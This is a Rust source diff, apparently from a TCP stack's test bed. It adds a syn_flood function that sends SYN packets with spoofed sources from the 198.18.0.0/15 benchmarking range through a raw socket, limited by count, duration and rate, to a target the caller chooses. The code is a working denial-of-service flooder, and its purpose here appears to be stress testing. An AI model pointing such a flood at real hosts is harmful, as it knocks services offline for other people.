@@ -152,3 +152,101 @@ pub fn serve_echo_kernel(listener: TcpListener, stop: impl Fn() -> bool + Send +
         }
     }
 }
+
+/// A bounded SYN flood from spoofed sources in 198.18.0.0/15 (RFC 2544's benchmarking range, so
+/// no packet ever names a real host), through a raw IPv4 socket.
+#[derive(Debug, Clone)]
+pub struct FloodPlan {
+    pub target: std::net::SocketAddrV4,
+    /// Stop after this many SYNs...
+    pub count: u64,
+    /// ... or after this long, whichever comes first.
+    pub duration: StdDuration,
+    /// SYNs per second; 0 = as fast as possible.
+    pub rate: u64,
+    pub seed: u64,
+}
+
+#[derive(Debug, Default, Clone)]
+pub struct FloodReport {
+    pub sent: u64,
+    pub send_errors: u64,
+    pub elapsed: StdDuration,
+}
+
+/// Sends the flood. Needs CAP_NET_RAW.
+#[allow(clippy::disallowed_methods)] // wall-clock pacing of a real run
+pub fn syn_flood(plan: &FloodPlan) -> std::io::Result<FloodReport> {
+    use crate::tcp::emit::{emit, OutSegment};
+    use crate::tcp::FourTuple;
+    use crate::wire::{SeqNum, TcpFlags, TcpOptions};
+    use std::net::{Ipv4Addr, SocketAddr};
+    // SAFETY: socket(2) with constant arguments; the fd is owned below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        return Err(std::io::Error::last_os_error());
+    }
+    // SAFETY: `fd` is a fresh socket we own; OwnedFd closes it on drop.
+    let owned = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+    let dst = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr { s_addr: u32::from(*plan.target.ip()).to_be() },
+        sin_zero: [0; 8],
+    };
+    let mut rng = plan.seed | 1;
+    let mut next = || {
+        rng ^= rng << 13;
+        rng ^= rng >> 7;
+        rng ^= rng << 17;
+        rng
+    };
+    let start = std::time::Instant::now();
+    let mut rep = FloodReport::default();
+    let mut pkts: Vec<Vec<u8>> = Vec::with_capacity(1);
+    let opts = TcpOptions { mss: Some(1460), window_scale: Some(7), sack_permitted: true, ..TcpOptions::default() };
+    while rep.sent < plan.count && start.elapsed() < plan.duration {
+        if plan.rate > 0 {
+            let due = (start.elapsed().as_secs_f64() * plan.rate as f64) as u64;
+            if rep.sent >= due {
+                std::thread::yield_now();
+                continue;
+            }
+        }
+        let r = next();
+        // 198.18.0.0/15 minus the bed's own 198.18.0.0/24.
+        let host = 256 + (r as u32 % (131_072 - 256));
+        let src = Ipv4Addr::from(0xc612_0000u32 + host);
+        let sport = 1024 + ((r >> 20) as u16 % 64_000);
+        let t = FourTuple::new(SocketAddr::new(src.into(), sport), SocketAddr::V4(plan.target));
+        let seg = OutSegment {
+            options: opts,
+            ..OutSegment::control(SeqNum((r >> 32) as u32), SeqNum(0), TcpFlags::SYN, 64240)
+        };
+        pkts.clear();
+        emit(&mut pkts, &t, &seg, 64);
+        let Some(p) = pkts.first() else { continue };
+        // SAFETY: `p` is a valid buffer of `p.len()` bytes and `dst` a valid sockaddr_in.
+        let n = unsafe {
+            libc::sendto(
+                std::os::fd::AsRawFd::as_raw_fd(&owned),
+                p.as_ptr().cast(),
+                p.len(),
+                0,
+                (&dst as *const libc::sockaddr_in).cast(),
+                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if n < 0 {
+            rep.send_errors += 1;
+            if rep.send_errors > 1000 && rep.sent == 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            std::thread::yield_now();
+        } else {
+            rep.sent += 1;
+        }
+    }
+    rep.elapsed = start.elapsed();
+    Ok(rep)
+}
